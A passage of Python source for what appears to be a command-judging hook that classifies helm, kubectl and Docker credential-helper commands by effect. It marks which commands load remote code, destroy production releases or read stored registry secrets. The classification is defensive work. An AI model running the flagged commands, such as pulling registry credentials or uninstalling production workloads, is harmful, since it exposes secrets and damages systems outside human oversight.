                    examples={"helm plugin install https://github.com/x/y": "load"},
                ),
                "list ls": _helm("list", {}),
                "uninstall rm remove update up": _helm("uninstall", {}, effects="config"),
            },
        ),
        "create": _helm(
            "create",
            {"-p --starter": "val"},
            operands="tree-write",
            examples={"helm create mychart": "tree-write:mychart"},
        ),
        "registry": _helm(
            "registry",
            {},
            subcommands={
                "login": _helm(
                    "login",
                    {
                        "--insecure --password-stdin": "flag",
                        "-u --username -p --password --cert-file --key-file --ca-file": "val",
                    },
                    effects="config",
                ),
                "logout": _helm("logout", {}, effects="config"),
            },
        ),
        "env version completion verify test": _helm(
            "env",
            {"--short --client -c": "flag", "--template --keyring --timeout --filter": "val", "--logs": "flag"},
            examples={"helm version": ""},
        ),
    },
    examples={"helm --kube-context prod uninstall web": "destroy", "helm list --kube-context prod -n web": ""},
)


def _anywhere(spec: Spec) -> Spec:
    """kubectl's and helm's global options (`--context`, `-n`) are accepted after every subcommand."""
    spec.globals_anywhere = True
    for sub in spec.subcommands.values():
        _anywhere(sub)
    return spec


def _persons_kubeconfigs(cwd: str) -> set[str]:
    """The files kubectl and helm read with no --kubeconfig: each entry of the person's KUBECONFIG (the
    environment hookward runs in, which the agent's commands cannot change), else ~/.kube/config."""
    import os

    listed = os.environ.get("KUBECONFIG", "")
    paths = [p for p in listed.split(os.pathsep) if p] or [os.path.join(os.path.expanduser("~"), ".kube", "config")]
    return {os.path.normpath(os.path.join(cwd or "/", os.path.expanduser(p))) for p in paths}


def _default_kubeconfig(walk: Walk) -> None:
    """`--kubeconfig PATH` naming the file the program reads anyway is the program's default: judged as if the
    option were not given. Any other path stays code it loads (its exec credential plugin runs). A literal `~`
    (`--kubeconfig=~/.kube/config`, which no shell expands) is a path relative to the working directory."""
    import os

    chosen = [e for e in walk.effects if e.kind == "load" and e.origin == "--kubeconfig"]
    if not chosen:
        return
    defaults = _persons_kubeconfigs(walk.cwd)
    for effect in chosen:
        if effect.value and os.path.normpath(os.path.join(walk.cwd or "/", effect.value)) in defaults:
            walk.effects.remove(effect)


def _judging_kubeconfig(spec: Spec) -> Spec:
    """Every subcommand of kubectl or helm (the deepest one reached judges the walk) knows the default kubeconfig."""
    previous = spec.judge

    def judge(walk: Walk, argv: list[str]) -> None:
        _default_kubeconfig(walk)
        if previous is not None:
            previous(walk, argv)

    spec.judge = judge
    for sub in {id(s): s for s in [*spec.subcommands.values(), *(p[1] for p in spec.prefixes)]}.values():
        _judging_kubeconfig(sub)
    return spec


SPECS = [DOCKER, _judging_kubeconfig(_anywhere(KUBECTL)), _judging_kubeconfig(_anywhere(HELM))]

# Docker's credential helpers: `get` reads a registry's address on standard input and prints its username and
# secret (a password or a token), `list` prints registries and usernames, `store` / `erase` change the store.
_CREDENTIAL_HELPER = "docker-credential-helpers 0.7.0"
DOCKER_CREDENTIAL = Spec(
    "docker-credential-desktop",
    aliases=(
        "docker-credential-osxkeychain",
        "docker-credential-wincred",
        "docker-credential-pass",
        "docker-credential-secretservice",
        "docker-credential-ecr-login",
        "docker-credential-gcloud",
        "docker-credential-gcr",
        "docker-credential-acr-env",
    ),
    version=_CREDENTIAL_HELPER,
    options={"-v --version -h --help": "flag"},
    subcommands={
        "get": Spec("get", version=_CREDENTIAL_HELPER, operands="", effects="secret"),
        # the registries and the account names signed in to each: what the store holds, short of the secrets
        "list": Spec("list", version=_CREDENTIAL_HELPER, operands="", effects="secret@ask"),
        "store erase": Spec("store", version=_CREDENTIAL_HELPER, operands="", effects="config"),
        "version": Spec("version", version=_CREDENTIAL_HELPER, operands=""),
    },
    examples={
        "docker-credential-desktop get": "secret",
        "docker-credential-pass list": "secret",
        "docker-credential-osxkeychain store": "config",
    },
)
SPECS += [DOCKER_CREDENTIAL]
